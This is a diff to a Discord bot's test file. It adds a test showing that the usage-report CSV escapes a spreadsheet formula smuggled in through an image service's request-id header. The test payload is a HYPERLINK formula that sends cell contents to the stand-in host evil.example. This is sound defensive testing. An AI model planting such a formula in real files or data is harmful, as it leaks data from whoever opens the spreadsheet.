@@ -18,7 +18,7 @@ from bot.usage import Day
 from bot.usage_chart import render_chart
 from cogs.usage._cog import CHART_FILE, CSV_FILE, CSV_TOO_LARGE, MANAGERS_ONLY
 from tests.cogs.support import fields, upload_limit
-from tests.fakes.images_api import FakeImagesAPI
+from tests.fakes.images_api import FakeImagesAPI, images_body, make_image, respond
 
 PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
 DALL_E_2_SQUARE = Decimal("0.02")  # dall-e-2, standard, 1024x1024: its published price
@@ -111,6 +111,32 @@ async def test_a_manager_gets_the_servers_totals_top_members_models_chart_and_cs
     assert sum(Decimal(row["cost"]) for row in rows) == 4 * DALL_E_2_SQUARE
     assert sum(int(row["images_delivered"]) for row in rows) == 4
     assert {int(row["member_id"]) for row in rows} == {alice.id, bob.id}
+
+
+HOSTILE_REQUEST_ID = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+
+
+@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+async def test_the_csv_holds_no_formula_that_an_upstream_request_id_could_plant(
+    simcord_env: Any, channel: Any, alice: Any, manager: Any, images_api: FakeImagesAPI
+) -> None:
+    """A spreadsheet opening the CSV must show the image service's request id, not run it."""
+    images_api.push(
+        respond(
+            200,
+            images_body(make_image(1024, 1024)),
+            headers={"x-request-id": HOSTILE_REQUEST_ID},
+        )
+    )
+    await draw(alice, channel)
+
+    result = await manager.slash(channel, "usage", scope="server")
+
+    (csv_file,) = [a for a in result.response.attachments if a.filename == CSV_FILE]
+    (row,) = csv.DictReader(io.StringIO((await csv_file.read()).decode()))
+    assert row["request_id"] == "'" + HOSTILE_REQUEST_ID
+    # No cell of the file starts as a formula would.
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
 
 
 @pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
